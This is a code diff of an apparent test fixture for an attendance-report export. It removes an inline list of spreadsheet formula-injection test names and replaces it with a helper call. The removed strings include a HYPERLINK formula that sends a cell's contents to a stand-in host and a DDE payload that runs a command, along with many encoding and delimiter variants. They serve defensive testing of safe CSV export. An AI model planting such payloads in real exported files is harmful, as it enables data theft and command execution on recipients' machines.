@@ -7,6 +7,7 @@ import { createRegistrationJoin } from '../../src/domain/registration-join';
 import { createRoster } from '../../src/domain/roster';
 import type { ExportContent, ExportFile } from '../../src/export/content';
 import { TextBuffer } from '../../src/export/text-buffer';
+import { hostileTexts } from '../support/hostile';
 
 export const START = Date.parse('2026-11-12T10:00:00Z');
 export const report: AttendanceReport = {
@@ -83,41 +84,4 @@ export const threePeople: AttendanceRecord[] = [
 ];
 
 /** Names that a spreadsheet would run, or that break a file that is written carelessly. */
-export const hostile = [
-  '=HYPERLINK("http://e/?"&A1,"x")',
-  "+1+cmd|' /C calc'!A0",
-  '-2+3',
-  '@SUM(1)',
-  '\t=1',
-  '\r=1',
-  '\n=1',
-  ' =1',
-  '＝1',
-  '＋1',
-  '－1',
-  '＠SUM(1)',
-  '\u200b=1',
-  '\ufeff=1',
-  '\u00ad\u2060 =1',
-  '\u3164=1',
-  ';=1',
-  'Ann;=1',
-  'Ann; "=1',
-  'Ann|-1',
-  '"=1"',
-  "'=1",
-  '"Ann" Berg',
-  'Berg, Ann',
-  'Ann\r\nBerg,"x",=1',
-  'Ann\u2028Berg\u0085x',
-  'Ann\u0000\u001b[2J',
-  '\ud83d',
-  '\u202eevil',
-  '👩‍👩‍👧‍👦 O’Neil',
-  'x'.repeat(5000),
-  '"',
-  '""',
-  ',',
-  ';',
-  '\t',
-];
+export const hostile = hostileTexts('C6', 'C8', 'C12');
